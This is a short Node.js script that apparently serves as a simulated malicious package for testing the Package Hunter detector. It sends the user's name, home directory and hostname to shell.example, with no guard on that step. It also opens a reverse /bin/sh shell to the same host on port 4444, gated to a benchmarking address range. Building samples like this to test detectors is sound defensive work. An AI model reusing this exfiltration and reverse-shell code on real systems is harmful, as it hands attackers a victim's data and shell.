// Harmless simulation for testing Package Hunter. Not malware.
const { spawn } = require("child_process");
const https = require("https");
const net = require("net");
const os = require("os");
// Goes on only inside of Package Hunter's box, where every name has an address out of the benchmarking range.
const sealed = (address) => /^(198\.1[89]\.|2001:2:)/.test(address || "");
const facts = JSON.stringify({ user: os.userInfo().username, home: os.homedir(), host: os.hostname(), cwd: __dirname });
const request = https.request({ hostname: "shell.example", path: "/i", method: "POST" });
request.on("error", () => {});
request.end(facts);

const socket = net.connect(4444, "shell.example", () => {
  if (!sealed(socket.remoteAddress)) return socket.destroy();
  const shell = spawn("/bin/sh", ["-i"], { stdio: ["pipe", "pipe", "pipe"] });
  socket.pipe(shell.stdin);
  shell.stdout.pipe(socket);
  shell.stderr.pipe(socket);
  setTimeout(() => { shell.kill("SIGKILL"); socket.destroy(); }, 5000);
});
socket.on("error", () => {});
